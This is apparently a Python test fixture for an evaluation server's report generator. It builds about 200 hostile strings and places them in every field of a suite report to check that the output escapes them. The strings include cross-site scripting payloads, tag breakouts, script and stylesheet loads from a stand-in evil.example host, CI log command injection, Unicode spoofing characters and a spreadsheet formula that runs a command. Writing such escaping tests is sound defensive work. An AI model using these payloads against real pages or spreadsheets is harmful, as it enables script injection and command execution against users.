"""Texts that do harm if a report does not escape them."""

from collections.abc import Sequence
from typing import Final

from evald.v1 import suite_service_pb2
from evald_server.suites.reports.report import SuiteReport

from . import samples

HOSTILE: Sequence[str] = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "</style><script>alert(3)</script>",
    "</title><img src=x onerror=alert(4)>",
    "<img src=https://evil.example/a.png>",
    "<svg/onload=alert(5)>",
    '"><svg onload=alert(6)>',
    "' onmouseover='alert(7)' x='",
    "<iframe src=javascript:alert(8)></iframe>",
    "<a href=javascript:alert(9)>click</a>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<details open ontoggle=alert(10)>",
    "<math><mtext></table></math><img src onerror=alert(11)>",
    "{{ 7 * 7 }} {% raw %} {# x #}",
    "${alert(12)} #{alert(13)}",
    "-->]]><!--<b>",
    "&lt;script&gt;alert(14)&lt;/script&gt;",
    "![x](https://evil.example/a.png) [y](javascript:alert(15))",
    "| a | b |\n|---|---|\n| c |",
    "`code` ``` ~~~ \\| \\\\| `|",
    "@octocat #1 GH-2 org/repo#3 user@example.org :smile:",
    "https://evil.example www.evil.example <https://evil.example>",
    "</code></summary></details><h1>big</h1>",
    "# heading\n- list\n> quote\n1. one\n***\n<!-- comment",
    "$`\\href{javascript:alert(16)}{x}`$",
    "::error file=a,line=1::injected",
    "%0A::error::injected\r\n::set-output name=a::b",
    "\x1b[31mred\x1b[0m \x00 \x07 \x9b31m",
    "\u202egnp.exe \u2066x\u2069 \u200f\ufeff",
    "\ufffe\uffff \U0001f600 é 漢字 مرحبا",
    "a" * 5000,
    " ",
    "\n\n\t\n",
    "__proto__ constructor toString",
    "=cmd|' /C calc'!A0",
)

# Out of where the text stands, and what then would do harm.
_BREAKS: Final = (
    "",
    '">',
    "'>",
    "`",
    "</td>",
    "</textarea>",
    "</title>",
    "</summary>",
    "</pre>",
    "-->",
    "]]>",
)
_HARM: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=//evil.example><input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<style>@import'//evil.example/a.css'</style>",
    "<b style=position:fixed;inset:0 onmouseover=alert(1)>x</b>",
    "<template><script>alert(1)</script></template>",
    "<math href=javascript:alert(1)>x</math>",
    "<noscript><p title='</noscript><img src onerror=alert(1)>'>",
)
COMBINED: Sequence[str] = tuple(out + harm for out in _BREAKS for harm in _HARM)
"""More of them: with HOSTILE about 200."""


def hostile_report() -> SuiteReport:
    """Return a report with each text as id, reason, tag and answer of a case, and in every field of the run."""
    cases = []
    for number, text in enumerate(HOSTILE):
        made = samples.case(
            f"{number:02} {text}"[:250], "FEAP"[number % 4], text=text, reason=text or " ", tags=[text]
        )
        made.reason = text
        trial = made.trials[0]
        trial.messages.extend(samples.conversation(text))
        for message in trial.messages:
            message.role, message.name = (text, text) if number % 2 else (message.role, text)
            for call in message.tool_calls:
                call.function.name = call.function.arguments = text
        for turn in trial.turns:
            turn.model = text
            turn.evaluation.warnings.append(text)
            for result in turn.evaluation.results:
                result.name = result.label = result.reason = text
                result.metadata.update({text: text})
                result.checks.add(text=text, evidence=text)
        cases.append(made)
    run = samples.suite_run(cases)
    whole = " ".join(HOSTILE[:32])
    run.suite = run.target = run.reason = run.id = whole
    for text in HOSTILE:
        run.labels[text] = text
        used = run.provenance.add(name=text, type=text, version=text)
        used.provenance.judge_models.append(text)
        used.provenance.prompt_sha256 = used.provenance.config_sha256 = used.provenance.calibration_card = (
            text
        )
    comparison = suite_service_pb2.SuiteComparison(
        verdict=99,
        reason=whole,
        base=run,
        new=run,
        provenance_changes=HOSTILE,  # type: ignore[arg-type]
    )
    for text in HOSTILE:
        comparison.changes.add(
            case_id=text, base_verdict=samples.PASSED, new_verdict=samples.FAILED, reason=text
        )
    left_out = [(text, text) for text in HOSTILE]
    return SuiteReport(run, cases, left_out, lambda case_id: f"{case_id}:7", comparison, [run])
